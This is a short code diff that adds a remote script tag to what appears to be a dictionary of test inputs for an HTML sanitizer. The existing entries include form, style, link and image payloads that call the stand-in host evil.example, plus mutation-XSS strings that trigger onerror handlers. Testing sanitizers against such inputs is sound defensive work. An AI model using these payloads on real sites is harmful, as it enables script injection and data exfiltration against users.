@@ -33,6 +33,7 @@ ATTACKS = {
     "form": "<form action='https://evil.example/'><button autofocus>x</button></form>",
     "style": "<style>@import'https://evil.example/x.css';</style>",
     "link to a style": "<link rel=stylesheet href=https://evil.example/x.css>",
+    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
     "picture that reports": "<img src=https://evil.example/seen>",
     "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
